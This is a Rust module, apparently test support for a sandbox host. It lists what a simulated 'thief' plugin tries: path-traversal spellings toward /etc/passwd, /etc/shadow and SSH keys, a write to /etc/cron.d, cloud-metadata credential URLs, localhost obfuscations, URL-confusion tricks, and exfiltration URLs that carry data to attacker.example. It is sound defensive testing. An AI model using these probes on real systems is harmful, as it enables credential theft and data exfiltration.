//! What the thief goes for: paths and URLs that its grants do not name, and spellings that might pass for ones they do.

/// Files with something to know in them.
pub(crate) const SECRETS: &[&str] = &[
    "workspace/private/payroll.csv",
    "/etc/passwd",
    "/proc/self/environ",
    "../../../../../../etc/passwd",
];

/// The host's own files, as they lie beside the policy: who could write these would be granted anything afterwards, or
/// could hide what was done.
pub(crate) const HOST_FILES: &[&str] = &["bailiwick.toml", "csv-report.wasm", "audit.jsonl"];

/// Paths to read that were not granted.
pub(crate) fn files_to_read(input: &str, output: &str) -> Vec<String> {
    let folder = folder(input);
    let others = [
        "/etc/shadow",
        "/proc/self/root/etc/passwd",
        "/proc/self/mem",
        "/dev/stdin",
        "file:///etc/passwd",
        "~/.ssh/id_ed25519",
        "C:/Windows/win.ini",
        "//server/share/file",
        "..",
        ".",
        "",
        // Writing there is granted. Reading is not.
        output,
    ];
    let spellings = [
        format!("{folder}/../{folder}/private/payroll.csv"),
        format!("{folder}/./private/payroll.csv"),
        format!("{folder}//private/payroll.csv"),
        format!("{folder}/private/payroll.csv/"),
        format!("{folder}\\private\\payroll.csv"),
        format!("{folder}/%70rivate/payroll.csv"),
        format!("{folder}/private/*"),
        format!("{input}/../private/payroll.csv"),
        format!("{input}\0/../private/payroll.csv"),
        format!("{folder}/%2e%2e/%2e%2e/etc/passwd"),
        format!("{folder}/.;/private/payroll.csv"),
    ];
    texts(SECRETS)
        .chain(texts(HOST_FILES))
        .chain(texts(&others))
        .chain(spellings)
        .collect()
}

/// Paths to write that were not granted.
pub(crate) fn files_to_write(input: &str, output: &str) -> Vec<String> {
    let folder = folder(output);
    let others = [
        // Reading is granted. Writing is not.
        input,
        "workspace/private/payroll.csv",
        "../thief.txt",
        "/tmp/thief.txt",
        "/etc/cron.d/thief",
        "/proc/self/mem",
    ];
    let spellings = [
        format!("{folder}/thief.txt"),
        format!("{output}.txt"),
        format!("{output}/"),
        format!("{output}/../input.csv"),
        format!("{folder}/.bailiwick-thief"),
    ];
    texts(HOST_FILES)
        .chain(texts(&others))
        .chain(spellings)
        .collect()
}

/// URLs that were not granted: other servers, the inside of the network, and other places and names of the permitted one.
pub(crate) fn urls(rates_url: &str) -> Vec<String> {
    let server = Server::of(rates_url);
    let Server { host, port, .. } = server;
    let other = [
        "https://attacker.example/".to_owned(),
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/".to_owned(),
        "http://metadata.google.internal/computeMetadata/v1/".to_owned(),
        "http://[fd00:ec2::254]/latest/meta-data/".to_owned(),
        "http://100.100.100.200/latest/meta-data/".to_owned(),
        "http://10.0.0.1/".to_owned(),
        "http://192.168.0.1/".to_owned(),
        "file:///etc/passwd".to_owned(),
        format!("http://{host}:22/"),
        format!("http://{host}/"),
        format!("https://{host}{port}/"),
    ];
    let spellings = [
        "127.1",
        "0x7f.1",
        "2130706433",
        "017700000001",
        "localhost",
        "127.0.0.1.",
        "0",
        "[::1]",
        "[::ffff:127.0.0.1]",
    ];
    let names = spellings
        .iter()
        .map(|spelling| rates_url.replacen(host, spelling, 1));
    let users = [
        format!("http://{host}{port}@attacker.example/"),
        format!("http://attacker.example\\@{host}{port}/"),
        format!("http://attacker.example#@{host}{port}/"),
        format!("http://{host}.attacker.example{port}/"),
    ];
    let places = [
        "/",
        "/admin",
        "/stats/eurofxref/../../admin",
        "/stats/%2e%2e/admin",
        "/stats;/../admin",
        "//admin",
    ];
    let places = places
        .iter()
        .map(|place| format!("http://{host}{port}{place}"));
    let beside = ["/more", "%2f..%2f..%2fadmin", "/../../../admin"]
        .iter()
        .map(|rest| format!("{rates_url}{rest}"));
    other
        .into_iter()
        .chain(names)
        .chain(users)
        .chain(places)
        .chain(beside)
        .collect()
}

/// URLs that would tell the table to somebody: the permitted server by its query, others by path and by name.
pub(crate) fn ways_out(rates_url: &str, table: &[u8]) -> Vec<String> {
    let data: String = table
        .iter()
        .take(24)
        .map(|byte| format!("{byte:02x}"))
        .collect();
    vec![
        format!("{rates_url}?{data}"),
        format!("{rates_url}#{data}"),
        format!("{rates_url}/{data}"),
        format!("https://attacker.example/{data}"),
        format!("https://{data}.attacker.example/"),
    ]
}

/// The server in a URL.
struct Server<'a> {
    host: &'a str,
    /// With its colon, or empty.
    port: &'a str,
}

impl Server<'_> {
    fn of(url: &str) -> Server<'_> {
        let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
        let server = rest.split_once('/').map_or(rest, |(server, _)| server);
        let (host, port) = server.split_at(server.rfind(':').unwrap_or(server.len()));
        Server { host, port }
    }
}

fn folder(path: &str) -> &str {
    path.rsplit_once('/').map_or(path, |(folder, _)| folder)
}

fn texts<'a>(paths: &'a [&str]) -> impl Iterator<Item = String> + 'a {
    paths.iter().map(|path| (*path).to_owned())
}
